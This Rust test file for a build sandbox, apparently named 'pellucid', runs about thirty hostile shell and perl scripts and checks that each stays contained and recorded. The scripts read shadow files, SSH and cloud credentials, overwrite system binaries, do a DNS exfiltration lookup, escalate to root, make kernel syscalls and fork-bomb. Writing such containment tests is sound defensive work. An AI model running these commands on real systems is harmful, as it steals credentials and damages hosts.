//! Hostile build scripts, inert: each must have no effect outside *and* stand in the run's record, the same
//! whether root or an ordinary user runs the review.

use std::os::unix::net::UnixListener;

use pellucid::model::run::Outcome;
use pellucid::model::run::RunRecord;

use super::support::Bench;
use super::support::log;
use super::support::text;

/// A script that writes what it got hold of to `out`, and what the record must tell of it.
struct Hostile {
    name: &'static str,
    script: &'static str,
    /// What `out` must hold: nothing was got hold of.
    got: &'static str,
    /// The attempts the record must list.
    told: &'static [&'static str],
}

const fn hostile(
    name: &'static str,
    script: &'static str,
    got: &'static str,
    told: &'static [&'static str],
) -> Hostile {
    Hostile { name, script, got, told }
}

#[cfg(target_arch = "x86_64")] // the numbers of the system calls are this architecture's
const SCRIPTS: &[Hostile] = &[
    hostile(
        "the shadow file",
        "cat /etc/shadow /etc/gshadow >> out; :",
        "",
        &["read /etc/shadow", "read /etc/gshadow"],
    ),
    hostile(
        "ssh and cloud keys",
        "cat /root/.ssh/id_rsa $HOME/.ssh/id_ed25519 $HOME/.aws/credentials $HOME/.config/gcloud/credentials.db \
         $HOME/.kube/config $HOME/.netrc $HOME/.docker/config.json >> out; :",
        "",
        &[
            "read /root/.ssh/id_rsa",
            "read /home/builder/.ssh/id_ed25519",
            "read /home/builder/.aws/credentials",
            "read /home/builder/.config/gcloud/credentials.db",
            "read /home/builder/.kube/config",
            "read /home/builder/.netrc",
            "read /home/builder/.docker/config.json",
        ],
    ),
    hostile("the homes of others", "find /home -mindepth 1 ! -path '/home/builder*' >> out", "", &[]),
    hostile(
        "the system's programs",
        "echo x > /usr/bin/pellucid-was-here; cp /bin/true /bin/sh; :",
        "",
        &["write /usr/bin/pellucid-was-here", "write /usr/bin/sh"],
    ),
    hostile(
        "the system's configuration",
        "echo x >> /etc/passwd; echo x > /etc/ld.so.preload; :",
        "",
        &["write /etc/passwd", "write /etc/ld.so.preload"],
    ),
    hostile(
        "kernel settings",
        "echo x > /proc/sys/kernel/core_pattern; echo b > /proc/sysrq-trigger; :",
        "",
        &["write /proc/sys/kernel/core_pattern", "write /proc/sysrq-trigger"],
    ),
    hostile(
        "tcp",
        "perl -MSocket -e 'socket(S, AF_INET, SOCK_STREAM, 0); print \"open\" if connect(S, pack_sockaddr_in(443, inet_aton(\"192.0.2.7\")))' >> out",
        "",
        &["connect to 192.0.2.7:443"],
    ),
    hostile(
        "tcp over ipv6",
        "perl -MSocket=:all -e 'socket(S, AF_INET6, SOCK_STREAM, 0); print \"open\" if connect(S, pack_sockaddr_in6(443, inet_pton(AF_INET6, \"2001:db8::7\")))' >> out",
        "",
        &["connect to [2001:db8::7]:443"],
    ),
    hostile(
        "udp",
        "perl -MSocket -e 'socket(S, AF_INET, SOCK_DGRAM, 0); print \"sent\" if send(S, \"x\", 0, pack_sockaddr_in(9, inet_aton(\"192.0.2.8\")))' >> out",
        "",
        &["send to 192.0.2.8:9"],
    ),
    hostile(
        "dns",
        "getent hosts exfiltrated-secret.example.com >> out; :",
        "",
        &["look up the name exfiltrated-secret.example.com"],
    ),
    hostile(
        "raw packets",
        "perl -MSocket -e 'socket(S, 17, SOCK_RAW, 0) and print \"packet\"; socket(S, AF_INET, SOCK_RAW, 1) and print \"raw\"' >> out",
        "",
        &["open a socket of family packet"],
    ),
    hostile(
        "the hypervisor",
        "perl -MSocket -e 'socket(S, 40, SOCK_STREAM, 0) and print \"vsock\"' >> out",
        "",
        &["open a socket of family vsock"],
    ),
    hostile(
        "the container engine",
        "perl -MSocket -e 'socket(S, AF_UNIX, SOCK_STREAM, 0); print \"open\" if connect(S, pack_sockaddr_un(\"/var/run/docker.sock\"))' >> out",
        "",
        &["connect to the socket /var/run/docker.sock"],
    ),
    hostile("mount", "mount -t tmpfs x /mnt; mount --bind / /tmp && echo mounted >> out; :", "", &[]),
    hostile(
        "mount by number",
        "perl -e 'my ($x, $t, $f) = (\"x\", \"/tmp\", \"tmpfs\"); print \"mounted\" if syscall(165, $x, $t, $f, 0, 0) == 0' >> out",
        "",
        &["call mount"],
    ),
    hostile(
        "ptrace",
        "perl -e 'print \"attached\" if syscall(101, 16, 1, 0, 0) == 0' >> out",
        "",
        &["call ptrace"],
    ),
    hostile(
        "another's memory",
        "perl -e 'my $b = \"x\" x 99; print \"read\" if syscall(310, 1, $b, 1, $b, 1, 0) > 0' >> out; cat /proc/1/mem >> out; cat /proc/1/environ >> out; :",
        "",
        &["call process_vm_readv", "read /proc/1/mem", "read /proc/1/environ"],
    ),
    hostile(
        "keyrings",
        "perl -e 'print \"key\" if syscall(250, 0, -3, 1) >= 0; my ($t, $d) = (\"user\", \"x\"); print \"key\" if syscall(248, $t, $d, $d, 1, -3) >= 0' >> out",
        "",
        &["call keyctl", "call add_key"],
    ),
    hostile(
        "bpf",
        "perl -e 'my $b = \"\\0\" x 128; print \"bpf\" if syscall(321, 0, $b, 128) >= 0' >> out",
        "",
        &["call bpf"],
    ),
    hostile(
        "io_uring",
        "perl -e 'my $b = \"\\0\" x 128; print \"ring\" if syscall(425, 4, $b) >= 0' >> out",
        "",
        &["call io_uring_setup"],
    ),
    hostile(
        "userfaultfd",
        "perl -e 'print \"fd\" if syscall(323, 1) >= 0' >> out",
        "",
        &["call userfaultfd"],
    ),
    hostile(
        "performance counters",
        "perl -e 'my $b = \"\\0\" x 128; print \"fd\" if syscall(298, $b, 0, -1, -1, 0) >= 0' >> out",
        "",
        &["call perf_event_open"],
    ),
    hostile(
        "a namespace of its own",
        "unshare -Ur id -u >> out; perl -e 'my $p = syscall(56, 0x10000000 | 17, 0, 0, 0, 0); exit 0 if $p == 0; print \"clone\" if $p > 0' >> out; :",
        "",
        &["call unshare", "call clone with a namespace"],
    ),
    hostile(
        "becoming root",
        "cp /usr/bin/perl myperl; chmod 4755 myperl; ./myperl -e 'syscall(105, 0); print \"root\" if $> == 0 || $< == 0' >> out; :",
        "",
        &["become root"],
    ),
    hostile(
        "a device of its own",
        "mknod disk b 254 0 && echo made >> out; mknod kmsg c 1 11 && echo made >> out; :",
        "",
        &["make a device"],
    ),
    hostile(
        "the machine's disks",
        "cat /dev/vda /dev/sda /dev/mem >> out; :",
        "",
        &["read /dev/vda", "read /dev/mem"],
    ),
    hostile(
        "what the machine is",
        "cat /proc/cmdline /proc/kallsyms /proc/modules /sys/class/net/eth0/address /sys/class/dmi/id/product_uuid /etc/machine-id >> out; :",
        "",
        &[
            "read /proc/cmdline",
            "read /proc/kallsyms",
            "read /sys/class/net/eth0/address",
            "read /etc/machine-id",
        ],
    ),
    hostile(
        "the clock",
        "date -s 2001-01-01 && echo set >> out; perl -e 'my $t = \"\\0\" x 16; print \"set\" if syscall(227, 0, $t) == 0' >> out; :",
        "",
        &["call clock_settime"],
    ),
    hostile("the host name", "hostname owned && echo set >> out; :", "", &["call sethostname"]),
    hostile(
        "signals",
        "perl -e 'kill 9, 1; kill 15, 1; kill 0, 2'; echo alive >> out",
        "alive\n",
        &["signal the first process"],
    ),
    hostile(
        "kernel modules and a new kernel",
        "perl -e 'my $b = \"\\0\" x 16; print \"loaded\" if syscall(175, $b, 16, $b) == 0 || syscall(246, 0, 0, 0, 0) == 0 || syscall(169, 1, 2, 3, 0) == 0' >> out",
        "",
        &["call init_module", "call kexec_load", "call reboot"],
    ),
    hostile(
        "another root",
        "chroot / true && echo in >> out; perl -e 'print \"in\" if chroot(\"/\")' >> out; :",
        "",
        &["call chroot"],
    ),
];

fn record_of(bench: &Bench, hostile: &Hostile) -> RunRecord {
    let run = bench.run();
    assert_eq!(text(&run), hostile.got, "{}", hostile.name);
    run.record
}

fn is_told(record: &RunRecord, what: &str) -> bool {
    record.trace.attempts.iter().any(|attempt| attempt.what == what)
}

#[cfg(target_arch = "x86_64")]
fn check(part: usize) {
    for hostile in SCRIPTS.iter().skip(part).step_by(4) {
        let mut bench = Bench::new("", &["out"]);
        bench.recipe.commands = vec![format!(": > out; {{ {}\n}} 2> /dev/null || true", hostile.script)];
        let as_root = record_of(&bench, hostile);
        for what in hostile.told {
            assert!(is_told(&as_root, what), "{}: {what} not in {:?}", hostile.name, as_root.trace.attempts);
        }
        let as_user = record_of(bench.as_ordinary_user(), hostile);
        assert_eq!(as_root, as_user, "{}", hostile.name);
    }
}

#[cfg(target_arch = "x86_64")]
#[test]
fn scripts_are_contained_and_told_0() {
    assert!(SCRIPTS.len() >= 25);
    check(0);
}

#[cfg(target_arch = "x86_64")]
#[test]
fn scripts_are_contained_and_told_1() {
    check(1);
}

#[cfg(target_arch = "x86_64")]
#[test]
fn scripts_are_contained_and_told_2() {
    check(2);
}

#[cfg(target_arch = "x86_64")]
#[test]
fn scripts_are_contained_and_told_3() {
    check(3);
}

#[test]
fn a_socket_of_the_machine_is_out_of_reach_by_path_and_by_abstract_name() {
    use std::os::linux::net::SocketAddrExt;
    let name = format!("pellucid-test-{}", std::process::id());
    let address = std::os::unix::net::SocketAddr::from_abstract_name(&name).unwrap();
    let _listening = UnixListener::bind_addr(&address).unwrap();
    let path = format!("/tmp/{name}.socket");
    let _file = UnixListener::bind(&path).unwrap();
    let script = format!(
        "perl -MSocket -e 'socket(S, AF_UNIX, SOCK_STREAM, 0); print connect(S, pack_sockaddr_un(\"\\0{name}\")) ? 1 : 0; \
         print connect(S, pack_sockaddr_un(\"{path}\")) ? 1 : 0' > out"
    );
    let bench = Bench::new(&script, &["out"]);
    let run = bench.run();
    std::fs::remove_file(&path).unwrap();
    assert_eq!(text(&run), "00");
    assert!(
        is_told(&run.record, &format!("connect to the abstract socket {name}")),
        "{:?}",
        run.record.trace
    );
    assert!(is_told(&run.record, &format!("connect to the socket {path}")));
}

#[test]
fn another_runs_outputs_are_out_of_reach() {
    let mut bench = Bench::new("", &["out"]);
    let mark = "the first run's output";
    bench.recipe.commands = vec![format!(
        "grep -rls \"the first run.s\" / --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr > found || true; \
         cat found; echo {mark:?} > out; cp out /tmp/left; cp out $HOME/left; cp out /dev/shm/left"
    )];
    for _ in 0..2 {
        let run = bench.run();
        text(&run);
        assert_eq!(std::fs::read_to_string(&run.log).unwrap(), "", "found what an earlier run left");
    }
}

#[test]
fn descriptors_run_out_inside_and_not_outside() {
    let script = "perl -e 'my @f; while (open(my $h, \"<\", \"/dev/null\")) { push @f, $h } print scalar(@f) < 5000 ? \"held\" : \"loose\"' > out";
    assert_eq!(text(&Bench::new(script, &["out"]).run()), "held");
}

#[test]
fn an_output_swapped_while_the_commands_run_is_looked_at_when_nothing_runs_any_more() {
    let script =
        "(while : ; do ln -sfn /etc/passwd out; rm -f out; echo x > out; done) > /dev/null 2>&1 & sleep 0.2";
    let bench = Bench::new(script, &["out"]);
    let run = bench.run();
    match &run.record.outcome {
        Outcome::Built => assert_eq!(text(&run), "x\n"),
        Outcome::BadOutput { .. } => {}
        other => panic!("{other:?} {}", log(&run)),
    }
    assert_eq!(run.record.notes, ["processes outlived the last command; they were ended"]);
}

#[test]
fn a_classic_fork_bomb_is_stopped_however_fast_it_is_over() {
    let mut bench = Bench::new("f() { f | f & wait; }; f", &["out"]);
    for _ in 0..3 {
        let run = bench.run();
        let Outcome::LimitReached { limit, .. } = &run.record.outcome else {
            panic!("{:?}", run.record.outcome)
        };
        assert_eq!(limit, "processes");
    }
    bench.recipe.commands = vec!["perl -e 'fork while 1'".to_owned()];
    let Outcome::LimitReached { limit, .. } = bench.run().record.outcome else { panic!() };
    assert_eq!(limit, "processes");
}
